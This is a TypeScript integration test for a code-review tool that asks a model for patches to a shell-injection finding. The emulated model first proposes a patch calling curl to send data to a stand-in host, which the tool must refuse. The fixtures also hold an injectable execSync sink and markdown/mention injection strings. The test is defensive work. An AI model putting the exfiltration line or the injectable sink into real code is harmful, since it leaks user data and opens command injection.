// A run with a model, from the reports to the click: its first patch is refused, the reason is told to it, and the second becomes a suggestion.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ResultDocument } from '#domain/result-document.ts';
import { findSuggestionBlocks } from '../doubles/apply-suggestion.ts';
import { liveParts } from '../doubles/markdown-reader.ts';
import type { ModelServer } from '../emulators/models/model-server.ts';
import { startOpenAiServer } from '../emulators/models/openai-server.ts';
import { createReviewRepository } from '../emulators/review-repository.ts';
import { type PublishedRun, publishChange, readOut, sarifOf } from './reviewed-change.ts';
import { HOSTS, type ReviewingHost, startReviewingHost } from './reviewing-host.ts';

const PATH = 'src/show.js';
const BASE = "const cp = require('node:child_process');\n\nexports.version = () => 1;\n";
const COMMAND = "  return cp.execSync('cat -n ' + name);\n";
/** Only allowed because it is the same program, without its shell. */
const MENDED = "  return cp.execFileSync('cat', ['-n', '--', name]);\n";
const EVIL = "  return cp.execFileSync('curl', ['-d', name, 'collect.example.com']);\n";
const HEAD = `${BASE}\nexports.show = (name) => {\n${COMMAND}};\n`;
const WHY = 'The program is started without a shell. **[x](y)** @all';
const USAGE = { input: 900, cached: 0, output: 90 };

/** Whatever is asked about, it cannot tell; the first patch that it proposes is not one, the second is. */
function says(text: string, proposals: readonly string[], asked: string[]): string {
  const [id = ''] = /f-[0-9a-f]{10}/.exec(text) ?? [];
  if (!text.includes('propose the smallest change')) {
    const answer = { id, label: 'needs_review', confidence: 0.5, dismissal: null, claims: [], requests: [] };
    return JSON.stringify({
      answers: [{ ...answer, root_cause: 'A shell reads the name. **[x](y)** @all', open_question: null }],
    });
  }
  const now = proposals[asked.push(text) - 1] ?? '';
  return JSON.stringify({ id, edits: [{ file: PATH, old: COMMAND, new: now }], why: WHY });
}

describe.each(HOSTS)("a model's patch in a run on %s", (name) => {
  let host: ReviewingHost;
  let model: ModelServer;
  let run: PublishedRun;
  let result: ResultDocument;
  const asked: string[] = [];

  beforeAll(async () => {
    const repository = createReviewRepository(
      (git) =>
        void git
          .write(PATH, BASE)
          .write(
            'assay.yml',
            'version: 1\nmodel:\n  provider: openai-compatible\n  name: fake-model\n  judge: model\n',
          ),
      (git) => void git.write(PATH, HEAD),
    );
    host = await startReviewingHost(name, repository);
    model = await startOpenAiServer({ key: null });
    model.otherwise(({ text }) => ({ text: says(text, [EVIL, MENDED], asked), usage: USAGE }));
    run = await publishChange({
      repository,
      report: sarifOf([{ path: PATH, line: 6 }]),
      variables: { ...host.variables(), ASSAY_MODEL_BASE_URL: model.url, ASSAY_CACHE_DIR: 'off' },
    });
    result = JSON.parse(readOut(run, 'assay.json'));
  });
  afterAll(async () => {
    await model.close();
    await host.close();
    host.repository.dispose();
  });

  const comment = () => {
    const [said, ...others] = host.comments();
    expect(others).toEqual([]);
    if (said === undefined) throw new Error(`there is no comment: ${run.log}`);
    return said;
  };

  it('is asked for twice, the second time with the reason why the first was refused', () => {
    expect(model.violations).toEqual([]);
    expect(asked).toHaveLength(2);
    expect(asked[0]).not.toContain('An earlier proposal was refused');
    expect(asked[1]).toContain('An earlier proposal was refused');
    expect(asked[1]).toMatch(/The patch brings in a host name/);
  });

  it('stands in the result with what was checked of it, and without the one that was refused', () => {
    const [finding] = result.findings;
    expect(finding?.patch).toMatchObject({
      ...{ path: PATH, origin: 'model', tool: 'openai-compatible/fake-model' },
      edits: [{ startLine: 6, lines: 1, newText: MENDED }],
    });
    expect(finding?.refusedPatches).toEqual([]);
    expect(readOut(run, 'assay.json')).not.toContain('curl');
    expect(readOut(run, `patches/${finding?.id}.patch`)).toContain(`+${MENDED}`);
  });

  it('is one click, and nothing that the model wrote is live beside it', () => {
    const { body } = comment();
    expect(body).toContain('Proposed by the model `openai-compatible/fake-model`');
    expect(body).toContain('A shell reads the name.');
    expect(findSuggestionBlocks(body)).toHaveLength(1);
    expect(body).not.toMatch(/curl|collect/);
    expect(liveParts(body, { links: [host.blobUrl()], marker: true })).toEqual([]);
    expect(host.complaints()).toEqual([]);
  });

  it('is written exactly by the click', () => {
    host.apply(comment());
    const file = host.repository.file(host.repository.head(), PATH)?.toString('utf8');
    expect(file).toBe(HEAD.replace(COMMAND, () => MENDED));
  });
});
